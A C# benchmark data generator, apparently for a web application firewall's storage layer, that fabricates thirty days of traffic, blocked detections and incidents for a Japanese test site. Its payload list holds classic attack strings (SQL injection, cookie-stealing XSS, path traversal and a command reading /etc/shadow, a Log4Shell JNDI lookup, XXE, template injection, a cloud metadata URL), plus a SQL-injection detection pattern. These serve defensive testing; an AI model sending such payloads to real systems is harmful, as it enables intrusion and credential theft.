using System.Collections.Immutable;
using System.Globalization;
using Sakimori.Domain;

namespace Sakimori.Benchmarks.Storage;

/// <summary>
/// Generated traffic of thirty days: half of it detections of three rules each, names by Zipf's law, the same for the same number.
/// </summary>
internal sealed class Events(long total)
{
    public static readonly DateTimeOffset Begin = new(2026, 10, 24, 0, 0, 0, TimeSpan.Zero);
    public static readonly DateTimeOffset End = Begin.AddDays(30);

    private static readonly string[] s_sites = ["shop", "intra", "sap", "portal", "mail"];
    private static readonly string[] s_agents = [.. Enumerable.Range(100, 40).Select(version => $"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.0.0 Safari/537.36")];
    private static readonly string[] s_payloads =
    [
        "' or 1=1-- ", "1 union select name, pass from users", "<script>alert(document.cookie)</script>", "../../../../etc/passwd", "; cat /etc/shadow",
        "${jndi:ldap://203.0.113.9/a}", "<!ENTITY x SYSTEM 'file:///'>", "{{7*7}}", "http://169.254.169.254/latest/", "%{(#a=@java.lang.Runtime)}",
    ];

    /// <summary>Batches from an event on, each with the counts that intake makes of it.</summary>
    public (ImmutableArray<TransactionRecord> Transactions, ImmutableArray<Incident> Incidents, ImmutableArray<TrafficMinute> Traffic) Batch(long first, int count)
    {
        var random = new Random(unchecked((int)first));
        var transactions = ImmutableArray.CreateBuilder<TransactionRecord>(count);
        var minutes = new Dictionary<(DateTimeOffset, string), TrafficMinute>();
        var incidents = new Dictionary<long, Incident>();
        for (var i = 0; i < count; i++)
        {
            var one = Event(first + i, random);
            transactions.Add(one);
            var minute = new DateTimeOffset(one.Time.Ticks / TimeSpan.TicksPerMinute * TimeSpan.TicksPerMinute, TimeSpan.Zero);
            var known = minutes.GetValueOrDefault((minute, one.Site)) ?? new TrafficMinute { Minute = minute, Site = one.Site };
            known.DurationHistogram[13]++;
            minutes[(minute, one.Site)] = known with { Requests = known.Requests + 1, Blocked = known.Blocked + (one.IsDetection ? 1 : 0) };
            if (one.Incident is { } incident)
                incidents[incident.Value] = Incident(one, incident);
        }

        return (transactions.MoveToImmutable(), [.. incidents.Values], [.. minutes.Values]);
    }

    private TransactionRecord Event(long number, Random random)
    {
        var isDetection = random.Next(2) == 0;
        var family = isDetection ? (AttackFamily)(1 + Zipf(random, 12)) : AttackFamily.Other;
        var path = "/" + (isDetection ? "search" : "page") + Zipf(random, 2000).ToString(CultureInfo.InvariantCulture);
        var payload = s_payloads[random.Next(s_payloads.Length)] + random.Next().ToString("x", CultureInfo.InvariantCulture);
        var client = isDetection ? Zipf(random, 50_000) : 60_000 + Zipf(random, 200_000);
        return new TransactionRecord
        {
            // As the gateway makes them: in the order of time.
            Id = string.Create(CultureInfo.InvariantCulture, $"{(Begin + (End - Begin) * ((double)number / total)).ToUnixTimeMilliseconds():x12}{number * 2654435761 % 4294967296:x8}{number:x12}"),
            Time = Begin + (End - Begin) * ((double)number / total),
            Site = s_sites[Zipf(random, s_sites.Length)],
            Client = string.Create(CultureInfo.InvariantCulture, $"{1 + client % 223}.{client / 223 % 256}.{client / 57088 % 256}.{client % 251}"),
            Method = random.Next(4) == 0 ? "POST" : "GET",
            Host = "www.example.co.jp",
            Target = isDetection ? path + "?q=" + Uri.EscapeDataString(payload) : string.Create(CultureInfo.InvariantCulture, $"{path}?id={random.Next(100_000)}"),
            Mode = SiteMode.Protect,
            Outcome = isDetection ? TransactionOutcome.Blocked : random.Next(200) == 0 ? TransactionOutcome.Failed : TransactionOutcome.Forwarded,
            Status = isDetection ? 403 : 200,
            DecidingRule = isDetection ? 949110 : 0,
            InboundScore = isDetection ? 5 * random.Next(1, 5) : 0,
            Family = family,
            RuleSetVersion = "crs-4.1 3f2a9c",
            InspectionMicroseconds = random.Next(80, 900),
            DurationMicroseconds = random.Next(2000, 90_000),
            RequestBytes = random.Next(3) == 0 ? random.Next(2000) : 0,
            Charset = "Shift_JIS",
            UserAgent = s_agents[Zipf(random, s_agents.Length)],
            Incident = isDetection ? new IncidentId(1 + number / 2500) : null,
            Detections = isDetection ? Detections(random, payload) : [],
            Headers = isDetection ? s_headers : [],
            Body = isDetection && random.Next(4) == 0 ? "name=value&comment=" + payload : null,
        };
    }

    private static readonly ImmutableArray<KeyValuePair<string, string>> s_headers =
    [
        new("Host", "www.example.co.jp"), new("User-Agent", s_agents[0]), new("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        new("Accept-Language", "ja,en;q=0.7"), new("Accept-Encoding", "gzip, deflate, br"), new("Referer", "http://www.example.co.jp/"),
        new("Cookie", "JSESSIONID=***"), new("Connection", "keep-alive"),
    ];

    private static ImmutableArray<DetectionRecord> Detections(Random random, string payload)
    {
        var found = ImmutableArray.CreateBuilder<DetectionRecord>(3);
        for (var i = 0; i < 3; i++)
        {
            found.Add(new DetectionRecord
            {
                RuleId = i == 2 ? 949110 : 930_000 + 10 * Zipf(random, 200),
                Phase = 2,
                Target = i == 2 ? "TX:BLOCKING_INBOUND_ANOMALY_SCORE" : "ARGS:q",
                Value = i == 2 ? "15" : payload,
                Operator = i == 2 ? "@ge 5" : "@rx (?i)union.*?select|or\\s+\\d=\\d",
                Message = i == 2 ? "Inbound anomaly score exceeded" : "Attack detected in a parameter",
                Data = "Matched Data: " + payload[..Math.Min(12, payload.Length)] + " found within ARGS:q",
                Severity = 2,
                Score = i == 2 ? 0 : 5,
                Tags = ["application-multi", "attack-sqli", "paranoia-level/1", "OWASP_CRS", "capec/1000/152/248/66"],
                File = "REQUEST-942-APPLICATION-ATTACK-SQLI.conf",
                Line = 100 + i,
                IsDisruptive = i == 2,
            });
        }

        return found.MoveToImmutable();
    }

    private static Incident Incident(TransactionRecord one, IncidentId id) => new()
    {
        Id = id,
        First = one.Time,
        Last = one.Time,
        Site = one.Site,
        Family = one.Family,
        Stage = IncidentStage.Attempt,
        Actor = one.Client,
        GroupingKey = one.Site + id,
        Count = 1250,
        Blocked = 1250,
        Passed = 0,
        TopScore = 20,
        Rank = (int)(id.Value % 100),
        Clients = [new(one.Client, 1250)],
        Examples = [one.Id],
        Revision = 1,
    };

    // Half of all draws fall on about the square root of the names.
    private static int Zipf(Random random, int names) => (int)Math.Pow(names, random.NextDouble()) - 1;
}
